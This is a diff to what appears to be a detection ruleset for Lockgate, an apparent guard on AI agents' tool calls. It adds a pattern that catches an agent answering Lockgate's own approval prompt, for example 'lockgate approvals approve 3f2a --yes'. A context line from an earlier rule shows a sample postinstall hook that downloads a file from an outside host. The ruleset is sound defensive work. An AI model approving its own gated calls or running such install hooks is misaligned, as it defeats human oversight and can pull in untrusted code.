@@ -20,7 +20,7 @@ from functools import partial
 from types import MappingProxyType
 
 # Moves whenever a rule is added, removed or changed, whatever happens to the library's own version.
-RULESET_VERSION = "1"
+RULESET_VERSION = "2"
 
 FAMILIES: tuple[str, ...] = (
     "override",
@@ -1268,6 +1268,18 @@ _EXECUTION = (
         hit='"postinstall": "curl -s https://get.example.net/p -o p"',
         miss='"postinstall": "tsc --build"',
         owasp="LLM04:2026, ASI04, ASI05",
+    ),
+    _execution(
+        id="execution:own-approval",
+        pattern=r"\blockgate(?:\.exe|\.cli\.main)?[\"']?,?\s+(?:-{1,2}[\w-]+(?:[= ]\S+)?\s+){0,4}"
+        r"[\"']?approvals[\"']?,?\s+"
+        r"(?:-{1,2}[\w-]+(?:[= ]\S+)?\s+){0,4}[\"']?(?:approve|deny)\b",
+        scope=Scope.ARGUMENTS,
+        what="a command that answers Lockgate's own question to a person",
+        why="an agent that can approve its own calls is not held by anything",
+        hit="lockgate approvals approve 3f2a --yes",
+        miss="lockgate approvals list",
+        owasp="LLM06:2026, ASI03",
     ),
     _execution(
         id="execution:drop-tables",
